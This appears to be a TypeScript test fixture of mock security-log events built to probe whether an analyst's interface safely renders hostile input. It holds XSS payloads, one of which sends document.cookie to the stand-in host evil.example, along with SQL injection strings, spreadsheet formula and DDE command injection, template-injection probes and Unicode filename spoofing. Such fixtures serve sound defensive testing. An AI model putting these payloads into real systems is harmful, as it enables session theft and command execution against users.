/** Messages by which an attacker would talk to the analyst's browser or mislead the analyst. */
import type { MockEvent } from "./events.ts";

export const hostile: readonly MockEvent[] = [
	{
		Name: "<script>alert('xss')</script>",
		Message: "<img src=x onerror=alert(document.cookie)>",
		SourceUserName: '"><svg onload=alert(1)>',
		Raw: "<script>fetch('//evil.example/'+document.cookie)</script>",
	},
	{
		Name: "Process started",
		Message: "C:\\Users\\Public\\invoice\u202efdp.exe",
		SourceProcessName: "invoice\u202efdp.exe",
		SourceUserName: "m.weber\u200b",
	},
	{
		Name: "' OR 1=1 --",
		Message: "\\'; DROP TABLE events; --",
		SourceUserName: "o'brien\\",
		DeviceProduct: "it's \\ complicated",
	},
	{
		Name: "日本語のイベント名",
		Message:
			"ユーザー「山田」がログインしました 😀 — naïve café Ωμέγα עברית العربية",
		SourceUserName: "山田太郎",
		DeviceProduct: "ログ収集",
	},
	{
		Name: "Multi-line message",
		Message:
			"line one\nline two\r\n\tindented\u0000nul\u0007bell\u001b[31mred\u001b[0m",
		Raw: "line one\nline two\r\n\tindented\u0000nul\u001b[31mred\u001b[0m",
	},
	{
		Name: "Very long message",
		Message: "A".repeat(1023),
		Raw: `${"lorem ipsum dolor sit amet ".repeat(900)}END`,
	},
	{
		Name: '=HYPERLINK("http://evil.example","click")',
		Message: "=cmd|' /C calc'!A0",
		SourceUserName: "+1+1",
	},
	{
		Name: "{{constructor.constructor('alert(1)')()}}",
		Message: "#{7*7} $(7*7) <%= 7*7 %>",
		SourceUserName: "javascript:alert(1)",
	},
];
